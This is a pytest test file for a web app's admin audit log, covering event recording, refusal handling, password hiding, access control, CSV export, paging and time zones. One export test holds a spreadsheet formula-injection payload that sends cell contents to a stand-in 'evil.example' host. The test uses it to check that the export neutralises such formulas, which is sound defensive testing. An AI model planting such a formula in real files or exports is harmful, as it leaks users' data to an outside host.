"""The audit log: every admin action leaves one event (who, when, what, to what), a refused
change leaves none, no password ever shows, and only admins read or export it."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import text

from backplan import appdb, defaults
from backplan.web import create_app

from .conftest import ADMIN, ANA, MANAGER, PASSWORD, Person, add_people, fast_settings, sign_in

OUTBOUND_TOML = defaults.funnel_path("outbound").read_text()
PLAYBOOK_TOML = '[conversions."sqls/meetings"]\narea = "Qualifying"\n'


def events(client: TestClient, **filters: str) -> list[dict[str, Any]]:
    response = client.get("/api/audit", params=filters)
    assert response.status_code == 200, response.text
    found: list[dict[str, Any]] = response.json()["events"]
    return found


def one_new(client: TestClient, before: int) -> dict[str, Any]:
    """The single event recorded since the log held ``before`` events."""
    found = client.get("/api/audit").json()
    assert found["total"] == before + 1, [e["action"] for e in found["events"]]
    newest: dict[str, Any] = found["events"][0]
    return newest


def total(client: TestClient) -> int:
    count: int = client.get("/api/audit").json()["total"]
    return count


@pytest.fixture
def admin(signed_in) -> tuple[TestClient, dict[str, str]]:  # type: ignore[no-untyped-def]
    client, csrf = signed_in(ADMIN)
    return client, {"X-CSRF-Token": csrf}


def test_setting_up_the_organisation_is_in_the_log_as_the_command_line(
    admin: tuple[TestClient, dict[str, str]],
) -> None:
    client, _ = admin
    created = events(client, action="user.created")
    assert [e["subject"] for e in created] == [
        "ben@example.com",
        "ana@example.com",
        "manager@example.com",
        "admin@example.com",
    ]
    assert {e["actor_kind"] for e in created} == {"command line"}
    assert created[-1]["detail"] == {"role": "admin", "rep": None, "teams": []}
    assert created[0]["what"] == "created the account of"


# -- each kind of admin action leaves exactly one event ---------------------------------


def test_account_changes_are_recorded_with_the_admin_and_what_changed(
    admin: tuple[TestClient, dict[str, str]],
) -> None:
    client, csrf = admin
    me = client.get("/api/me").json()["user"]
    who = {"actor": ADMIN.email, "actor_id": me["id"], "actor_kind": "user"}

    before = total(client)
    new = {"email": "cy@example.com", "password": PASSWORD, "role": "rep", "rep": "Cy"}
    cy = client.post("/api/users", json=new, headers=csrf).json()
    event = one_new(client, before)
    assert {k: event[k] for k in who} == who
    assert (event["action"], event["subject"]) == ("user.created", "cy@example.com")
    assert event["detail"] == {"role": "rep", "rep": "Cy", "teams": []}

    before = total(client)
    body = {"role": "manager", "teams": ["West"]}
    assert client.patch(f"/api/users/{cy['id']}", json=body, headers=csrf).status_code == 200
    event = one_new(client, before)
    assert (event["action"], event["what"]) == ("user.role_changed", "changed the role of")
    assert event["detail"] == {
        "role": {"from": "rep", "to": "manager"},
        "rep": {"from": "Cy", "to": None},
        "teams": {"from": [], "to": ["West"]},
    }

    before = total(client)
    body = {"role": "manager", "teams": ["West", "East"]}
    client.patch(f"/api/users/{cy['id']}", json=body, headers=csrf)
    event = one_new(client, before)
    assert event["action"] == "user.access_changed"
    assert event["detail"] == {"teams": {"from": ["West"], "to": ["East", "West"]}}

    before = total(client)
    client.patch(f"/api/users/{cy['id']}", json=body, headers=csrf)  # no change: nothing to log
    assert total(client) == before

    put = client.put(
        f"/api/users/{cy['id']}/password", json={"password": "another pass phrase"}, headers=csrf
    )
    assert put.status_code == 204
    event = one_new(client, before)
    assert (event["action"], event["subject"]) == ("user.password_set", "cy@example.com")
    assert event["detail"] == {"sessions_ended": 0}

    before = total(client)
    assert client.delete(f"/api/users/{cy['id']}", headers=csrf).status_code == 204
    event = one_new(client, before)
    assert (event["action"], event["subject"], event["actor"]) == (
        "user.deleted",
        "cy@example.com",
        ADMIN.email,
    )


def test_the_account_forms_record_the_admin_too(
    admin: tuple[TestClient, dict[str, str]],
) -> None:
    client, csrf = admin
    form = {"csrf_token": csrf["X-CSRF-Token"]}
    before = total(client)
    new = form | {"email": "dee@example.com", "password": PASSWORD, "role": "admin"}
    assert client.post("/admin/users", data=new, follow_redirects=False).status_code == 303
    event = one_new(client, before)
    assert (event["action"], event["actor"]) == ("user.created", ADMIN.email)
    dee = next(u for u in client.get("/api/users").json() if u["email"] == "dee@example.com")
    before = total(client)
    reset = form | {"password": "a fresh pass phrase"}
    client.post(f"/admin/users/{dee['id']}/password", data=reset)
    assert one_new(client, before)["action"] == "user.password_set"


def test_roster_changes_are_recorded_before_and_after(
    admin: tuple[TestClient, dict[str, str]],
) -> None:
    client, csrf = admin
    steps: list[tuple[str, str, Any, str, dict[str, Any]]] = [
        ("POST", "/api/roster/teams", {"name": "North", "manager": "Maya"},
         "roster.team_added", {"name": "North", "manager": "Maya", "region": None}),
        ("PATCH", "/api/roster/teams/North", {"region": "EMEA"},
         "roster.team_changed", {"region": {"from": None, "to": "EMEA"}}),
        ("POST", "/api/roster/reps", {"key": "dee", "name": "Dee", "team": "East"},
         "roster.rep_added", {"name": "Dee", "email": None, "team": "East", "region": None,
                              "start_date": None}),
        ("PATCH", "/api/roster/reps/dee", {"team": "North"},
         "roster.rep_changed", {"team": {"from": "East", "to": "North"}}),
        ("POST", "/api/roster/reps/dee/time-off", {"first_day": "2026-12-21", "reason": "ski"},
         "roster.time_off_added", {"first_day": "2026-12-21", "last_day": "2026-12-21",
                                   "reason": "ski"}),
    ]  # fmt: skip
    for method, path, body, action, detail in steps:
        before = total(client)
        response = client.request(method, path, json=body, headers=csrf)
        assert response.status_code < 300, response.text
        event = one_new(client, before)
        assert (event["action"], event["actor"], event["detail"]) == (action, ADMIN.email, detail)
    reps = client.get("/api/roster").json()["reps"]
    [time_off] = next(r for r in reps if r["key"] == "dee")["time_off"]
    for path, action, subject in (
        (f"/api/roster/reps/dee/time-off/{time_off['id']}", "roster.time_off_removed", "dee"),
        ("/api/roster/reps/dee", "roster.rep_removed", "dee"),
    ):
        before = total(client)
        assert client.delete(path, headers=csrf).status_code == 204
        event = one_new(client, before)
        assert (event["action"], event["subject"]) == (action, subject)
    before = total(client)
    assert client.delete("/api/roster/teams/North", headers=csrf).status_code == 204
    assert one_new(client, before)["action"] == "roster.team_removed"


def test_a_roster_file_is_recorded_under_its_own_name(
    admin: tuple[TestClient, dict[str, str]],
) -> None:
    client, csrf = admin
    before = total(client)
    upload = {"file": ("team-2027.csv", b"rep,team\nEd,West\nAna,East\n", "text/csv")}
    response = client.post(
        "/admin/roster/file", files=upload, data={"csrf_token": csrf["X-CSRF-Token"]},
        follow_redirects=False,
    )  # fmt: skip
    assert response.status_code == 303, response.text
    event = one_new(client, before)
    assert (event["action"], event["subject"], event["actor"]) == (
        "roster.imported",
        "team-2027.csv",
        ADMIN.email,
    )
    assert (event["detail"]["added"], event["detail"]["updated"]) == (1, 1)


def test_funnel_and_playbook_changes_are_recorded(
    admin: tuple[TestClient, dict[str, str]],
) -> None:
    client, csrf = admin
    steps = [
        ("PUT", "/api/funnels/inbound", {"toml": OUTBOUND_TOML.replace("outbound", "inbound")},
         "funnel.saved", "inbound"),
        ("PUT", "/api/funnels/outbound", {"toml": OUTBOUND_TOML}, "funnel.saved", "outbound"),
        ("DELETE", "/api/funnels/outbound", None, "funnel.reverted", "outbound"),
        ("DELETE", "/api/funnels/inbound", None, "funnel.removed", "inbound"),
        ("PUT", "/api/playbook", {"toml": PLAYBOOK_TOML}, "playbook.saved", "playbook"),
        ("DELETE", "/api/playbook", None, "playbook.reverted", "playbook"),
    ]  # fmt: skip
    for method, path, body, action, subject in steps:
        before = total(client)
        response = client.request(method, path, json=body, headers=csrf)
        assert response.status_code < 300, (path, response.text)
        event = one_new(client, before)
        assert (event["action"], event["subject"], event["actor"]) == (action, subject, ADMIN.email)
        assert set(event["detail"]) == {"version"}


def test_a_managers_team_objective_is_recorded_as_theirs(signed_in, app: FastAPI) -> None:  # type: ignore[no-untyped-def]
    manager, csrf = signed_in(MANAGER)
    form = {"csrf_token": csrf, "team": "East", "key_results": "6 sqls", "period": "2026-12"}
    response = manager.post("/okrs", data=form, follow_redirects=False)
    assert response.status_code == 303, response.text
    admin, _ = signed_in(ADMIN)
    [event] = events(admin, action="okr.created")
    assert (event["actor"], event["subject"]) == (MANAGER.email, "team East")
    assert event["detail"]["period"] == "2026-12" and event["detail"]["key_results"] == ["6 sqls"]
    assert event["what"] == "created an objective for"


# -- refused changes leave nothing ----------------------------------------------------


def test_a_refused_change_leaves_no_event(admin: tuple[TestClient, dict[str, str]]) -> None:
    client, csrf = admin
    me = client.get("/api/me").json()["user"]
    before = total(client)
    refused = [
        client.patch(f"/api/users/{me['id']}", json={"role": "rep", "rep": "Ana"}, headers=csrf),
        client.put("/api/funnels/inbound", json={"toml": "[[stages]]\nkey = 3\n"}, headers=csrf),
        client.post("/api/roster/teams", json={"name": "east"}, headers=csrf),
        client.post(
            "/api/users",
            json={"email": ANA.email, "password": PASSWORD, "role": "rep", "rep": "Ben"},
            headers=csrf,
        ),
        client.post(
            "/api/users",
            json={"email": "x@example.com", "password": "short", "role": "admin"},
            headers=csrf,
        ),
        client.delete("/api/roster/teams/East", headers=csrf),  # it has reps
    ]
    assert [r.status_code for r in refused] == [422, 422, 409, 422, 422, 409]
    assert total(client) == before


# -- no password, ever ----------------------------------------------------------------


def test_passwords_never_appear_in_the_log(
    admin: tuple[TestClient, dict[str, str]], signed_in, app: FastAPI
) -> None:  # type: ignore[no-untyped-def]
    client, csrf = admin
    first, second, own = "first secret phrase", "second secret phrase", "her own secret phrase"
    new = {"email": "eve@example.com", "password": first, "role": "admin"}
    eve = client.post("/api/users", json=new, headers=csrf).json()
    client.put(f"/api/users/{eve['id']}/password", json={"password": second}, headers=csrf)
    eve_client = TestClient(app)
    eve_csrf = sign_in(eve_client, Person("eve@example.com", "admin"), second)
    change = {"current_password": second, "new_password": own}
    changed = eve_client.post("/api/me/password", json=change, headers={"X-CSRF-Token": eve_csrf})
    assert changed.status_code == 200, changed.text
    [event] = events(client, action="user.password_changed")
    assert (event["actor"], event["subject"]) == ("eve@example.com", "eve@example.com")
    shown = client.get("/api/audit").text + client.get("/admin/audit.csv").text
    shown += client.get("/admin/audit").text
    with appdb.connection(app.state.web.settings) as conn:
        rows = conn.execute(text("SELECT * FROM audit_events")).all()
    shown += repr(rows)
    for secret in (first, second, own, PASSWORD, "$argon2"):
        assert secret not in shown


def test_a_detail_naming_a_secret_is_refused(app: FastAPI) -> None:
    from backplan.services.audit import Actor, record

    settings = app.state.web.settings
    with pytest.raises(ValueError, match="never keeps secrets"), appdb.session(settings) as db:
        record(db, settings, Actor.user("a@example.com"), "user.created", "x", {"password": 1})


# -- who may read it -----------------------------------------------------------------


@pytest.mark.parametrize("person", [MANAGER, ANA], ids=["manager", "rep"])
def test_managers_and_reps_cannot_read_or_export_the_log(signed_in, person) -> None:  # type: ignore[no-untyped-def]
    client, _ = signed_in(person)
    for path in ("/admin/audit", "/api/audit", "/admin/audit.csv"):
        assert client.get(path).status_code == 403, path
    assert "/admin/audit" not in client.get("/").text


def test_signed_out_the_log_asks_to_sign_in(client: TestClient) -> None:
    assert client.get("/api/audit").status_code == 401
    for path in ("/admin/audit", "/admin/audit.csv"):
        response = client.get(path, follow_redirects=False)
        assert (response.status_code, response.headers["location"]) == (
            303,
            f"/login?next={path}",
        )


def test_the_admin_navigation_links_the_audit_log(admin: tuple[TestClient, dict[str, str]]) -> None:
    client, _ = admin
    page = client.get("/admin/audit")
    assert page.status_code == 200
    assert 'href="/admin/audit"' in client.get("/").text
    assert "created the account of" in page.text and "user.created" not in page.text.split(
        'id="audit-events"'
    )[1].replace('data-action="user.created"', "")


# -- export ------------------------------------------------------------------------


def test_the_csv_export_neutralises_formulas(admin: tuple[TestClient, dict[str, str]]) -> None:
    client, csrf = admin
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    assert client.post("/api/roster/teams", json={"name": evil}, headers=csrf).status_code == 201
    response = client.get("/admin/audit.csv", params={"action": "roster.team_added"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 1
    assert rows[0]["subject"] == "'" + evil
    assert rows[0]["what"] == "added the team" and rows[0]["actor"] == ADMIN.email
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


# -- paging, filters, time zone --------------------------------------------------------


def test_paging_goes_newest_first_fifty_at_a_time(
    admin: tuple[TestClient, dict[str, str]],
) -> None:
    client, csrf = admin
    start = total(client)
    for i in range(56):
        client.post("/api/roster/teams", json={"name": f"Team {i:02}"}, headers=csrf)
    first = client.get("/api/audit").json()
    assert (first["total"], first["page"], first["pages"]) == (start + 56, 1, 2)
    assert [e["subject"] for e in first["events"][:2]] == ["Team 55", "Team 54"]
    assert len(first["events"]) == 50 and first["previous"] is None
    assert first["next"].endswith("/api/audit?page=2")
    second = client.get(first["next"]).json()
    assert len(second["events"]) == start + 6 and second["next"] is None
    assert second["events"][0]["subject"] == "Team 05"
    ids = [e["id"] for e in first["events"] + second["events"]]
    assert ids == sorted(ids, reverse=True)
    filtered = client.get("/api/audit", params={"action": "roster.team_added", "page": 2}).json()
    assert filtered["previous"].endswith("action=roster.team_added&page=1")
    assert client.get("/api/audit", params={"page": 9}).json()["events"] == []
    html = client.get("/admin/audit", params={"action": "roster.team_added"}).text
    assert 'id="audit-older"' in html and "page=2" in html
    assert '/admin/audit.csv?action=roster.team_added"' in html


def test_filters_by_action_and_who_and_a_bad_filter_is_422(
    admin: tuple[TestClient, dict[str, str]], signed_in
) -> None:  # type: ignore[no-untyped-def]
    client, csrf = admin
    client.post("/api/roster/teams", json={"name": "North"}, headers=csrf)
    assert [e["subject"] for e in events(client, action="roster.team_added")] == ["North"]
    assert {e["actor"] for e in events(client, who="ADMIN@")} == {ADMIN.email}
    assert len(events(client, who="command")) == 0  # who is the actor's name, not its kind
    assert events(client, who="nobody") == []
    for bad in ({"action": "user.hacked"}, {"since": "yesterday"},
                {"since": "2026-11-20", "until": "2026-11-10"}):  # fmt: skip
        response = client.get("/api/audit", params=bad)
        assert response.status_code == 422, bad
    assert "no action 'user.hacked'" in client.get("/api/audit?action=user.hacked").json()["error"]


def test_times_are_the_organisations_and_so_are_the_days_filtered(backplan_home: Path) -> None:
    """An admin in New York at 22:30 acts on the 16th, though it is the 17th in UTC."""
    from backplan.services import roster
    from backplan.services.audit import Actor
    from backplan.services.roster import TeamFields

    zone = {"timezone": "America/New_York"}
    settings = fast_settings(backplan_home, today="2026-11-16T22:30", **zone)
    app = create_app(settings)
    add_people(app)
    who = Actor.user(ADMIN.email)
    roster.add_team(fast_settings(backplan_home, today="2026-11-15T09:00", **zone),
                    TeamFields("Early"), by=who)  # fmt: skip
    roster.add_team(settings, TeamFields("Late"), by=who)
    roster.add_team(fast_settings(backplan_home, today="2026-11-17T00:30", **zone),
                    TeamFields("Next day"), by=who)  # fmt: skip
    client = TestClient(app)
    sign_in(client, ADMIN)
    late = events(client, action="roster.team_added", since="2026-11-16", until="2026-11-16")
    assert [e["subject"] for e in late] == ["Late"]
    assert (late[0]["at"], late[0]["when"]) == ("2026-11-16T22:30:00-05:00", "2026-11-16 22:30")
    page = client.get("/admin/audit", params={"action": "roster.team_added"}).text
    assert "2026-11-16 22:30" in page and "America/New_York" in page
    since = events(client, action="roster.team_added", since="2026-11-16")
    assert [e["subject"] for e in since] == ["Next day", "Late"]
    csv_text = client.get("/admin/audit.csv", params={"until": "2026-11-15"}).text
    assert "2026-11-15T09:00:00-05:00" in csv_text and "Late" not in csv_text


def test_the_page_shows_a_change_before_and_after_in_words(
    admin: tuple[TestClient, dict[str, str]],
) -> None:
    client, csrf = admin
    ben = next(u for u in client.get("/api/users").json() if u["email"] == "ben@example.com")
    body = {"role": "manager", "teams": ["East", "West"]}
    client.patch(f"/api/users/{ben['id']}", json=body, headers=csrf)
    page = client.get("/admin/audit", params={"action": "user.role_changed"}).text
    row = page.split('data-action="user.role_changed"')[1].split("</tr>")[0]
    assert "changed the role of" in row and "ben@example.com" in row
    assert "rep → manager" in row and "none → East, West" in row and "Ben → –" in row
